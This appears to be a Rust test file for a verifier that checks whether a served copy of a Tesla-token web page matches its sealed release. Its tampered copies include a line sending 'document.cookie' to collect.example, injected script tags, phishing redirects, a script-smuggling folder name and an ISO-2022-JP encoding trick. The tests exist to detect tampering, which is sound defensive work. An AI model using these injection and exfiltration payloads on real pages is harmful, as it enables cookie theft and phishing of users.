//! `token-relay verify` against copies of a page served by `token-relay
//! --page`: the release's page itself, and copies changed one way each.
//! The pages are small and synthetic, sealed by page-seal's own function as
//! the build seals the real one (tests/verify_built.rs uses a real build).

use base64::Engine;
use sha2::{Digest, Sha384};
use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicUsize, Ordering};
use token_core::display::this_copy::COMMIT_MARK_PREFIX;

const COMMIT: &str = "0123456789abcdef0123456789abcdef01234567";
const OTHER_COMMIT: &str = "fedcba9876543210fedcba9876543210fedcba98";
const JS: &[u8] = b"export default async function init(module) { /* wasm-bindgen's glue */ }\n";

fn sri(bytes: &[u8]) -> String {
    format!("sha384-{}", base64::engine::general_purpose::STANDARD.encode(Sha384::digest(bytes)))
}

fn wasm(commit: &str) -> Vec<u8> {
    let mut wasm = b"\0asm\x01\0\0\0 the code, then its data: ".to_vec();
    wasm.extend((0..4000u32).map(|i| (i * 7 % 251) as u8));
    wasm.extend(format!("{COMMIT_MARK_PREFIX}{commit};   ").bytes());
    wasm.extend_from_slice(b"more data");
    wasm
}

/// A sealed page in a fresh folder `name`, built for `base` (`/` or
/// `/repo/`), its files named after `stem`, with `wasm` as its code.
fn page(name: &str, base: &str, stem: &str, wasm: &[u8]) -> PathBuf {
    // Tests run in parallel: every page gets a folder of its own.
    static COUNT: AtomicUsize = AtomicUsize::new(0);
    let count = COUNT.fetch_add(1, Ordering::Relaxed);
    let dir =
        Path::new(env!("CARGO_TARGET_TMPDIR")).join(format!("verify-{}-{count}-{name}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    let (js_name, wasm_name) = (format!("{stem}.js"), format!("{stem}_bg.wasm"));
    std::fs::write(dir.join(&js_name), JS).unwrap();
    std::fs::write(dir.join(&wasm_name), wasm).unwrap();
    // Each language's page, as page-seal writes them: its `lang`, a
    // `<link rel=alternate hreflang>` to every language, its own words.
    for language in l10n::LANGUAGES {
        std::fs::create_dir_all(dir.join(language.folder)).unwrap();
        let html = page_html(language, base, &js_name, &wasm_name, wasm);
        std::fs::write(dir.join(language.folder).join("index.html"), page_seal::seal(&html).unwrap())
            .unwrap();
    }
    dir
}

/// The HTML of `language`'s page, built for `base`, loading the two files.
fn page_html(language: &l10n::Language, base: &str, js_name: &str, wasm_name: &str, wasm: &[u8]) -> String {
    let alternates: String = l10n::LANGUAGES
        .iter()
        .map(|other| (other.tag, other))
        .chain([("x-default", l10n::Language::english())])
        .map(|(hreflang, other)| {
            let href = page_seal::localize::link(language, other);
            format!("<link rel=alternate hreflang={hreflang} href=\"{href}\">")
        })
        .collect();
    let heading = if language.folder.is_empty() { "Your own Tesla API tokens" } else { language.name };
    format!(
        "<!doctype html><html lang={}><head><meta charset=utf-8><title>Tokens</title>{alternates}\
         <link rel=icon href=\"data:,\">\
         <link rel=modulepreload href=\"{base}{js_name}\" crossorigin=anonymous integrity=\"{}\">\
         <link rel=preload href=\"{base}{wasm_name}\" crossorigin=anonymous integrity=\"{}\" as=fetch type=application/wasm>\
         <script type=module>\nimport init from '{base}{js_name}';\nconst answer = await fetch('{base}{wasm_name}');\n\
         await init({{ module_or_path: answer }});\n</script>\
         <style>body{{margin:0}}</style></head><body><h1>{heading}</h1></body></html>",
        language.tag,
        sri(JS),
        sri(wasm)
    )
}

/// The release's page, or an exact copy of it (`name` says which).
fn release(name: &str) -> PathBuf {
    page(name, "/", "tesla-token-page-1a2b", &wasm(COMMIT))
}

fn edit(dir: &Path, file: &str, change: impl FnOnce(Vec<u8>) -> Vec<u8>) {
    let path = dir.join(file);
    std::fs::write(&path, change(std::fs::read(&path).unwrap())).unwrap();
}

fn edit_html(dir: &Path, change: impl FnOnce(String) -> String) {
    edit(dir, "index.html", |html| change(String::from_utf8(html).unwrap()).into_bytes());
}

/// `token-relay --page dir` on a free loopback port; killed when dropped.
struct Served {
    child: Child,
    origin: String,
}

impl Served {
    fn start(dir: &Path) -> Self {
        let mut child = Command::new(env!("CARGO_BIN_EXE_token-relay"))
            .args(["--listen", "127.0.0.1:0", "--page"])
            .arg(dir)
            .stderr(Stdio::piped())
            .spawn()
            .expect("the relay starts");
        let mut lines = BufReader::new(child.stderr.take().unwrap()).lines();
        let first = lines.next().unwrap().unwrap();
        let origin =
            first.strip_prefix("token-relay listening on ").unwrap().split(' ').next().unwrap().to_owned();
        std::thread::spawn(move || lines.map_while(Result::ok).for_each(drop));
        Self { child, origin }
    }
}

impl Drop for Served {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Runs `token-relay verify address --page reference`: exit code and stdout.
fn verify(address: &str, reference: &Path, extra: &[&str]) -> (i32, String) {
    let output = Command::new(env!("CARGO_BIN_EXE_token-relay"))
        .args(["verify", address, "--page"])
        .arg(reference)
        .args(extra)
        .output()
        .unwrap();
    let text =
        format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr));
    (output.status.code().unwrap_or(-1), text)
}

fn verify_copy(copy: &Path, path: &str) -> (i32, String) {
    let served = Served::start(copy);
    verify(&format!("{}{path}", served.origin), &release("release"), &[])
}

#[test]
fn the_page_served_by_the_relay_is_identical() {
    let (copy, reference) = (release("copy"), release("release"));
    let served = Served::start(&copy);
    let (code, out) = verify(&format!("{}/", served.origin), &reference, &[]);
    assert_eq!(code, 0, "{out}");
    assert!(out.contains(&format!("IDENTICAL to the page in {}", reference.display())), "{out}");
    assert!(out.contains(&format!("built from commit {COMMIT}")), "{out}");
    assert!(out.contains("Relays its security policy lets it connect to (besides itself and Tesla): http://127.0.0.1:* http://localhost:*."), "{out}");
}

#[test]
fn a_copy_built_for_another_address_is_identical() {
    // As GitHub Pages serves a project: below /<repo>/, the loader naming it.
    let copy = page("sub-path", "/tesla-token-page/", "tesla-token-page-1a2b", &wasm(COMMIT));
    let (code, out) = verify_copy(&copy, "/tesla-token-page/");
    assert_eq!(code, 0, "{out}");
}

#[test]
fn each_languages_page_is_compared_with_the_releases_page_in_that_language() {
    let (copy, reference) = (release("languages"), release("release"));
    let served = Served::start(&copy);
    for language in l10n::LANGUAGES {
        for file in ["", "index.html"] {
            let (code, out) =
                verify(&format!("{}/{}{file}", served.origin, language.folder), &reference, &[]);
            assert_eq!(code, 0, "{}: {out}", language.tag);
            // The language links name pages, not files the page loads.
            assert!(out.contains("the 2 files it loads"), "{out}");
            assert!(out.contains(&format!("against the release's {}index.html.", language.folder)), "{out}");
        }
    }
    // Below a sub-path, as GitHub Pages serves a project.
    let below = page("languages-below", "/tesla-token-page/", "tesla-token-page-1a2b", &wasm(COMMIT));
    let served_below = Served::start(&below);
    for language in l10n::LANGUAGES {
        let address = format!("{}/tesla-token-page/{}", served_below.origin, language.folder);
        let (code, out) = verify(&address, &reference, &[]);
        assert_eq!(code, 0, "{}: {out}", language.tag);
        assert!(out.contains(&format!("against the release's {}index.html.", language.folder)), "{out}");
    }
}

#[test]
fn a_languages_address_that_serves_another_languages_page_differs() {
    let copy = release("swapped");
    let english = std::fs::read(copy.join("index.html")).unwrap();
    std::fs::write(copy.join("de/index.html"), english).unwrap();
    let served = Served::start(&copy);
    let german = format!("{}/de/", served.origin);
    let (code, out) = verify(&german, &release("release"), &[]);
    assert_eq!(code, 1, "{out}");
    assert!(out.contains("against the release's de/index.html."), "{out}");
    // The reference lacks the language: said as a reference problem, not as the copy's.
    let reference = release("no-german");
    std::fs::remove_dir_all(reference.join("de")).unwrap();
    let (code, out) = verify(&german, &reference, &[]);
    assert_eq!(code, 7, "{out}");
    assert!(out.contains("de/index.html"), "{out}");
}

#[test]
fn a_copy_with_one_byte_of_the_wasm_changed_differs() {
    let mut changed = wasm(COMMIT);
    changed[100] ^= 1;
    // Its integrity value is updated too: the browser would run it.
    let copy = page("one-byte", "/", "tesla-token-page-1a2b", &changed);
    let (code, out) = verify_copy(&copy, "/");
    assert_eq!(code, 1, "{out}");
    let size = changed.len();
    let differs = format!(
        "tesla-token-page-1a2b_bg.wasm differs from the release's tesla-token-page-1a2b_bg.wasm: \
         {size} bytes against {size}, the first difference at byte 100."
    );
    assert!(out.contains(&differs), "{out}");
    assert!(out.contains("NOT the page in") && out.contains("its code differs"), "{out}");
}

#[test]
fn a_copy_that_admits_another_connection_fails_on_its_policy() {
    let copy = release("copy");
    edit_html(&copy, |html| html.replace("connect-src 'self'", "connect-src 'self' https://collect.example"));
    let (code, out) = verify_copy(&copy, "/");
    assert_eq!(code, 4, "{out}");
    assert!(out.contains("lets it connect to https://collect.example: neither the page itself"), "{out}");
    assert!(out.contains("NOT VERIFIED: its security policy admits more"), "{out}");
}

#[test]
fn a_copy_whose_file_does_not_match_its_integrity_value_fails() {
    let copy = release("copy");
    edit(&copy, "tesla-token-page-1a2b.js", |mut js| {
        js.extend_from_slice(b"fetch('https://collect.example/?' + document.cookie);\n");
        js
    });
    let (code, out) = verify_copy(&copy, "/");
    assert_eq!(code, 3, "{out}");
    assert!(
        out.contains("tesla-token-page-1a2b.js does not match the integrity value the HTML declares"),
        "{out}"
    );
}

#[test]
fn a_copy_built_from_another_commit_says_which() {
    let copy = page("other-commit", "/", "tesla-token-page-9f8e", &wasm(OTHER_COMMIT));
    let (code, out) = verify_copy(&copy, "/");
    assert_eq!(code, 5, "{out}");
    assert!(out.contains(&format!("built from commit {OTHER_COMMIT}, not {COMMIT}.")), "{out}");
}

#[test]
fn a_script_added_before_the_policy_is_found() {
    let copy = release("copy");
    edit_html(&copy, |html| {
        html.replace("<meta charset=utf-8>", "<meta charset=utf-8><script>steal()</script>")
    });
    let (code, out) = verify_copy(&copy, "/");
    assert_eq!(code, 4, "{out}");
    assert!(out.contains("comes before the security policy"), "{out}");
    assert!(out.contains("inline scripts differ"), "{out}");
}

#[test]
fn a_copy_whose_html_sends_the_reader_elsewhere_differs() {
    let copy = release("copy");
    let refresh = "<meta http-equiv=refresh content=\"0;url=https://phish.example/\">";
    edit_html(&copy, |html| html.replace("<title>", &format!("{refresh}<title>")));
    let (code, out) = verify_copy(&copy, "/");
    assert_eq!(code, 1, "{out}");
    assert!(out.contains("Its HTML differs from the release's") && out.contains("phish.example"), "{out}");
}

#[test]
fn only_https_or_this_computer_is_checked_and_the_reference_must_exist() {
    let (code, out) = verify("http://example.com/", &release("release"), &[]);
    assert_eq!(code, 2, "{out}");
    assert!(out.contains("http:// only on this computer"), "{out}");
    let (code, out) = verify("https://127.0.0.1:1/", Path::new("/nonexistent/page"), &[]);
    assert_eq!(code, 7, "{out}");
    let help = Command::new(env!("CARGO_BIN_EXE_token-relay")).args(["verify", "--help"]).output().unwrap();
    let help = String::from_utf8_lossy(&help.stdout);
    for code in 0..=7 {
        assert!(help.contains(&format!("\n  {code}  ")), "exit code {code} in --help:\n{help}");
    }
}

/// A server on a free loopback port that answers each request (one per
/// connection) with the raw HTTP `answer` gives for its path; returns its origin.
fn loopback_server(answer: impl Fn(&str) -> Vec<u8> + Send + Sync + 'static) -> String {
    use std::io::{Read, Write};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let origin = format!("http://{}", listener.local_addr().unwrap());
    let answer = std::sync::Arc::new(answer);
    std::thread::spawn(move || {
        for mut stream in listener.incoming().map_while(Result::ok) {
            let answer = answer.clone();
            std::thread::spawn(move || {
                let mut request = [0u8; 2048];
                let read = stream.read(&mut request).unwrap_or(0);
                let request = String::from_utf8_lossy(&request[..read]);
                let path = request.split(' ').nth(1).unwrap_or_default();
                let _ = stream.write_all(&answer(path));
            });
        }
    });
    origin
}

/// A hostile server's answer: a redirect elsewhere or in a loop, an answer
/// larger than verify reads, or (after a wait) none.
fn hostile_answer(path: &str) -> Vec<u8> {
    // Each connection answers once: `Connection: close` keeps the client
    // from sending the next request on one the server is closing.
    let redirect = |to: &str| {
        format!("HTTP/1.1 302 Found\r\nLocation: {to}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
            .into_bytes()
    };
    match path {
        "/elsewhere/" => redirect("http://127.0.0.2:9/"),
        "/loop/" => redirect("/loop/"),
        "/huge/" => {
            let mut answer = b"HTTP/1.1 200 OK\r\nConnection: close\r\n\r\n".to_vec();
            answer.resize(answer.len() + 10 * 1024 * 1024, b'<');
            answer
        }
        _ => {
            std::thread::sleep(std::time::Duration::from_secs(8));
            Vec::new()
        }
    }
}

#[test]
fn redirects_huge_answers_and_slow_servers_are_bounded() {
    let server = loopback_server(hostile_answer);
    // Only the slow server gets the short timeout: on a busy machine 8 MiB
    // may take longer than 1 s to arrive, and the bound is the message, not a clock.
    for (path, timeout, says) in [
        ("/elsewhere/", "30", "redirected more than 3 times, or to another origin"),
        ("/loop/", "30", "redirected more than 3 times, or to another origin"),
        ("/huge/", "30", "the answer is larger than 8 MiB"),
        ("/slow/", "1", "no complete answer within 1 s"),
    ] {
        let (code, out) = verify(&format!("{server}{path}"), &release("release"), &["--timeout", timeout]);
        assert_eq!(code, 6, "{path}: {out}");
        assert!(out.contains(says), "{path}: {out}");
    }
}

/// The file of `dir` that `path` names (`/` is `index.html`), as an answer
/// with `header` added.
fn file_with_header(dir: &Path, header: &str, path: &str) -> Vec<u8> {
    let file = match path.trim_start_matches('/') {
        "" => "index.html",
        file => file,
    };
    let body = std::fs::read(dir.join(file)).unwrap_or_default();
    // `header` may be the answer's Content-Type itself.
    let content_type = if header.to_ascii_lowercase().starts_with("content-type:") {
        ""
    } else {
        "Content-Type: text/html\r\n"
    };
    let head = format!(
        "HTTP/1.1 200 OK\r\n{content_type}{header}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
        body.len()
    );
    [head.into_bytes(), body].concat()
}

#[test]
fn a_copy_whose_server_sends_the_reader_elsewhere_by_a_header_differs() {
    // Found in review: the HTML's <meta http-equiv=refresh> is found, but the
    // same Refresh sent as an HTTP header (which every browser follows) was
    // not: the byte-identical page, served with it, was IDENTICAL.
    let copy = release("copy");
    let origin =
        loopback_server(move |path| file_with_header(&copy, "Refresh: 0; url=https://phish.example/", path));
    let (code, out) = verify(&format!("{origin}/"), &release("release"), &[]);
    assert_eq!(code, 1, "{out}");
    assert!(out.contains("phish.example"), "{out}");
}

#[test]
fn a_copy_served_with_the_preloads_cloudflare_pages_adds_is_identical() {
    // Cloudflare Pages copies the HTML's <link rel=preload> and
    // rel=modulepreload into a Link header (Early Hints): a browser then
    // fetches nothing the page would not.
    let copy = release("copy");
    let preloads = "Link: </tesla-token-page-1a2b.js>; rel=modulepreload; crossorigin, \
                    </tesla-token-page-1a2b_bg.wasm>; rel=preload; as=fetch; crossorigin";
    let origin = loopback_server(move |path| file_with_header(&copy, preloads, path));
    let (code, out) = verify(&format!("{origin}/"), &release("release"), &[]);
    assert_eq!(code, 0, "{out}");
    assert!(out.contains("IDENTICAL to the page in"), "{out}");
}

#[test]
fn a_copy_built_for_a_folder_that_is_code_differs() {
    // Found in review: the folder the copy's wasm is in was taken out of its
    // inline scripts whatever it held. A folder made of a quote, a line break
    // and JavaScript left the loader "equal" to the release's while the
    // browser ran that JavaScript, and the copy was IDENTICAL.
    let folder = "/x'\n+(globalThis.pwned = 1, '')+'";
    let copy = page("code-folder", &format!("{folder}/"), "tesla-token-page-1a2b", &wasm(COMMIT));
    // The server answers each file by its name, whatever folder is asked.
    let origin = loopback_server(move |path| {
        let file = path.rsplit('/').next().unwrap_or_default();
        file_with_header(&copy, "X-Served-By: the host", &format!("/{file}"))
    });
    let (code, out) = verify(&format!("{origin}/"), &release("release"), &[]);
    assert_eq!(code, 1, "{out}");
    assert!(out.contains("inline scripts differ"), "{out}");
}

#[test]
fn a_copy_whose_loader_writes_the_folders_placeholder_itself_differs() {
    // Found in review: verify put a placeholder where the folder was in both
    // pages' loaders; a copy that wrote the placeholder itself matched, while
    // the browser fetched a wasm at `{folder}/…` that verify never checked.
    let copy = release("copy");
    edit_html(&copy, |html| {
        html.replacen(
            "fetch('/tesla-token-page-1a2b_bg.wasm')",
            "fetch('{folder}/tesla-token-page-1a2b_bg.wasm')",
            1,
        )
    });
    let served = Served::start(&copy);
    let (code, out) = verify(&format!("{}/", served.origin), &release("release"), &[]);
    assert_eq!(code, 1, "{out}");
    assert!(out.contains("inline scripts differ"), "{out}");
}

#[test]
fn a_copy_served_in_another_encoding_differs() {
    // Found in review: verify read the page as UTF-8 whatever it was served
    // as, and skipped integrity values on any element. Served as ISO-2022-JP,
    // escapes hidden in two such values turn the text between them into a
    // script tag in the browser, and the copy was IDENTICAL.
    let copy = release("copy");
    edit_html(&copy, |html| {
        html.replacen("<h1>", "<h1 integrity=\"x \u{1b}$B\">", 1).replacen(
            "</h1>",
            "<i integrity='\u{1b}(B\"><script src=/evil.js></script><i x=\"'></i></h1>",
            1,
        )
    });
    let origin = loopback_server(move |path| {
        file_with_header(&copy, "Content-Type: text/html; charset=ISO-2022-JP", path)
    });
    let (code, out) = verify(&format!("{origin}/"), &release("release"), &[]);
    assert_eq!(code, 1, "{out}");
    assert!(out.contains("served as \"text/html; charset=ISO-2022-JP\", not as UTF-8 HTML"), "{out}");
    assert!(out.contains("Its HTML differs"), "{out}");
}

#[test]
fn a_copy_served_as_utf8_html_by_any_label_is_identical() {
    let copy = release("copy");
    let origin = loopback_server(move |path| {
        file_with_header(&copy, "Content-Type: text/html; charset=\"UTF8\"", path)
    });
    let (code, out) = verify(&format!("{origin}/"), &release("release"), &[]);
    assert_eq!(code, 0, "{out}");
}

#[test]
fn a_copy_whose_server_adds_a_stylesheet_by_a_header_differs() {
    // Found in review: Firefox applies a stylesheet a Link header names, and
    // the page's policy (style-src 'self') admits one from the host itself.
    let copy = release("copy");
    let origin = loopback_server(move |path| file_with_header(&copy, "Link: </x.css>; rel=stylesheet", path));
    let (code, out) = verify(&format!("{origin}/"), &release("release"), &[]);
    assert_eq!(code, 1, "{out}");
    assert!(out.contains("Link header (\"</x.css>; rel=stylesheet\")"), "{out}");
    assert!(out.contains("NOT the page in") && out.contains("its code differs"), "{out}");
}
